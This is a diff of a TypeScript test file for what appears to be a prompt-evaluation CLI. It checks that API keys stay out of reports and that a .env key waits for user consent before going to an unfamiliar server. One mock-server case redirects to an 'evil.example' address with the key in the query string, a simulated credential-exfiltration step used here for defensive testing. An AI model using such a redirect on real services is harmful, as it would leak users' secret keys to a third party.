@@ -13,7 +13,7 @@ const PROMPT = `model: openai/gpt-4o-mini
 modelParameters: { maxTokens: 20 }
 messages: [{ role: user, content: "Say {{word}}" }]
 testData:
-${['text', 'pieces', 'model', 'refusal', 'message', 'url', 'redirect', 'stream', 'cut', 'html']
+${['text', 'pieces', 'model', 'refusal', 'message', 'url', 'redirect', 'stream', 'html']
   .map((word) => `  - { word: ${word}, $case: { name: ${word} } }\n`)
   .join('')}evaluators:
   - { name: says it, string: { equals: "Bearer ${'{{word}}'}" } }
@@ -43,8 +43,6 @@ function saysItBack({ body, headers }: Received): Reply {
       return { t: 'status', status: 307, headers: { location: `https://evil.example/?k=${key}` } };
     case 'stream':
       return { t: 'raw', text: `${chunk({ content: 'a' })}data: ${JSON.stringify({ error })}\n\n` };
-    case 'cut':
-      return { t: 'cut', text: header, hard: false };
     case 'html':
       return { t: 'status', status: 403, body: `<html>${header}</html>` };
     default:
@@ -81,6 +79,30 @@ test('a key that its server says back is in no report, no run, no recording and 
       `${name} was not written`,
     );
   for (const path of written) assertClean(await readFile(path, 'utf8'), path);
+});
+
+test('.env gives a key, which waits for consent, and no address', async (t) => {
+  const server = await modelServer(() => ({ t: 'stream', text: 'fine' }));
+  t.after(() => server.close());
+  const cwd = await folderWith(t, {
+    'a.prompt.yaml': PROMPT.replace('openai/gpt-4o-mini', 'lab/tiny'),
+    '.env': `export LAB_KEY="${KEY}" # ours\nOPENAI_BASE_URL=http://127.0.0.1:9\n`,
+    '.promptsmith.yaml': `providers: { lab: { baseUrl: "${server.baseUrl}", key: LAB_KEY } }\n`,
+  });
+  const args = ['eval', 'a.prompt.yaml', '--filter', 'text', '--judge', 'lab/tiny', '--json'];
+  const env = { XDG_CONFIG_HOME: join(cwd, 'config') };
+  const refused = await promptsmith(args, { cwd, env });
+  assert.equal(refused.code, 2);
+  assert.match(
+    refused.stderr,
+    /LAB_KEY would go to http:\/\/127\.0\.0\.1:\d+, which is not its own/,
+  );
+  assert.equal(server.requests.length, 0);
+  const allowed = await promptsmith([...args, '--trust', server.origin], { cwd, env });
+  assert.equal(server.requests[0]?.headers.authorization, `Bearer ${KEY}`, allowed.stderr);
+  assertClean(refused.stdout + refused.stderr + allowed.stdout + allowed.stderr, '.env');
+  const elsewhere = await promptsmith([...args, '--model', 'acme/chat'], { cwd, env });
+  assert.match(elsewhere.stderr, /no provider serves acme\/chat/);
 });
 
 function assertClean(text: string, what: string): void {
